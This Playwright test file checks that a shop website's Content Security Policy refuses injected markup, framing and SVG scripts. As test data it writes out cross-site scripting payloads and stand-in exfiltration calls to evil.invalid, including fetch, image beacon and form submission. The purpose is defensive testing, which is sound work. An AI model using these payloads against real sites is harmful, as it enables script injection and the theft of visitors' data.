import { expect } from '@playwright/test'
import { test } from './support/test.ts'

/** Markup that an attacker has put into a built page, and the browser's report of the refusal. */
const MARKUP: Readonly<Record<string, string>> = {
  "<script>document.title = 'taken'</script>": 'script-src-elem by inline',
  '<img src=x onerror="document.title = \'taken\'">': 'script-src-attr by inline',
  '<script src="https://evil.invalid/x.js"></script>': 'script-src-elem by https://evil.invalid/x.js',
  '<style>body { display: none }</style>': 'style-src-elem by inline',
  '<p style="position: fixed; inset: 0">Nič</p>': 'style-src-attr by inline',
  '<link rel="stylesheet" href="https://evil.invalid/x.css">': 'style-src-elem by https://evil.invalid/x.css',
  '<iframe src="https://evil.invalid/"></iframe>': 'frame-src by https://evil.invalid',
  '<object data="https://evil.invalid/x"></object>': 'object-src by https://evil.invalid',
  '<video src="https://evil.invalid/x.mp4"></video>': 'media-src by https://evil.invalid/x.mp4',
  '<base href="https://evil.invalid/">': 'base-uri by https://evil.invalid',
}

/** Actions of an attacker's code by the directive that refuses them. */
const ATTACKS: Readonly<Record<string, () => unknown>> = {
  'require-trusted-types-for': () => (document.body.innerHTML = '<img src=x onerror="document.title=1">'),
  'trusted-types': () =>
    (
      window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
    ).trustedTypes.createPolicy('default', {}),
  'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://evil.invalid/?cart' })),
  'connect-src': () => fetch('https://evil.invalid/?cart').catch(() => undefined),
  'font-src': () => new FontFace('evil', 'url(https://evil.invalid/x.woff2)').load().catch(() => undefined),
}

function sendForm(): void {
  const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/' })
  document.body.append(form)
  form.submit()
}

// The second and third are 404.html. The third is in a folder whose header allows nothing.
for (const path of ['/kontakt', '/neexistuje', '/_astro/neexistuje.js'])
  test(`a browser refuses an attacker's markup and code in ${path}, and tests notice it`, async ({
    page,
    policyViolations,
  }) => {
    await page.route(path, async (route) => {
      const response = await route.fetch()
      const markup = Object.keys(MARKUP).join('\n')
      await route.fulfill({ response, body: (await response.text()).replace('<main', `${markup}<main`) })
    })
    await page.goto(path)
    for (const attack of Object.values(ATTACKS)) await page.evaluate(attack).catch(() => undefined)
    for (const how of [...Object.values(MARKUP), ...Object.keys(ATTACKS).map((directive) => `${directive} `)])
      await expect
        .poll(() => policyViolations)
        .toContainEqual(expect.stringContaining(`securitypolicyviolation of ${how}`))
    await expect(page).toHaveTitle(/^(?!taken|1$)/)
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
    // Last, because the browser then begins to leave the page.
    await page.evaluate(sendForm)
    await expect
      .poll(() => policyViolations)
      .toContainEqual(expect.stringContaining('securitypolicyviolation of form-action '))
    policyViolations.length = 0
  })

test('no script runs in an SVG that is opened by itself', async ({ page, policyViolations }) => {
  await page.route('/favicon.svg', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</svg>', '<script>document.title = "taken"</script></svg>')
    await route.fulfill({ response, body })
  })
  await page.goto('/favicon.svg')
  await expect.poll(() => policyViolations.join()).toContain('script-src')
  expect(await page.evaluate(() => document.title)).not.toBe('taken')
  policyViolations.length = 0
})

test('no page can show the shop in a frame, not even its own pages', async ({ page, policyViolations }) => {
  await page.route('/v-rame', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<iframe src="/kontakt"></iframe>' }),
  )
  await page.goto('/v-rame')
  await expect.poll(() => policyViolations.join()).toContain('frame-ancestors')
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0)
  policyViolations.length = 0
})
